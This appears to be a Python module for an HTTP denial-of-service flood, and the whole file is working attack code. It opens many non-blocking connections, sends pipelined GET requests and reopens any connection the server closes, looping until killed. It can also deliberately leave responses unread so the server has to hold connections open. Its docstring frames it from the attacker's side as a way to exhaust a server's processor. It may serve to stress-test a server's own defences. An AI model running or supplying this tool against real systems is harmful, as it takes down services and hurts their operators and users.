"""Many connections without a key, from one thread: cheap for the attacker, so that the server has the processor."""

import resource
import select
import socket
from dataclasses import dataclass
from typing import Any

_RECEIVE_BYTES = 1_048_576
_END = b"\r\n\r\n"


@dataclass(frozen=True, slots=True)
class Flood:
    """`GET` of one path, on how many connections, so many requests at once on each.

    Where the clients do not read the answers, the connections stay open until the server closes them.
    """

    connections: int
    path: str
    pipelined: int = 1
    reads: bool = True


def send(address: Any, flood: Flood) -> None:
    """Send until the process is ended. A connection that is closed is opened again."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (flood.connections + 64, hard))
    epoll = select.epoll()
    clients = {client.descriptor: client for client in (_Client(address, flood) for _ in range(flood.connections))}
    for descriptor in clients:
        epoll.register(descriptor, select.EPOLLOUT)
    while True:
        for descriptor, events in epoll.poll():
            client = clients[descriptor]
            try:
                epoll.modify(descriptor, client.go_on(events))
            except OSError:
                client.connection.close()
                del clients[descriptor]
                again = _Client(address, flood)
                clients[again.descriptor] = again
                epoll.register(again.descriptor, select.EPOLLOUT)


class _Client:
    def __init__(self, address: Any, flood: Flood) -> None:
        self._request = f"GET {flood.path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * flood.pipelined
        self._reads = flood.reads
        self._head = b""
        self._left_bytes = 0  # of the body of an answer
        self.connection = socket.socket()
        if not flood.reads:
            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        self.connection.setblocking(False)
        self.connection.connect_ex(address)
        self.descriptor = self.connection.fileno()

    def go_on(self, events: int) -> int:
        """Send or receive; which events to wait for then. Without any, the end of the connection is still one.

        Raises:
            OSError: the connection is closed.
        """
        if events & select.EPOLLOUT or self._has_answer():
            self.connection.send(self._request)
        return select.EPOLLIN if self._reads else 0

    def _has_answer(self) -> bool:
        received = self.connection.recv(_RECEIVE_BYTES)
        if not received:
            raise ConnectionResetError
        if not self._left_bytes:
            self._head += received
            head, end, received = self._head.partition(_END)
            if not end:
                return False
            self._left_bytes = int(head.lower().partition(b"content-length: ")[2].partition(b"\r\n")[0] or 0)
            self._head = b""
        self._left_bytes -= len(received)
        return self._left_bytes <= 0
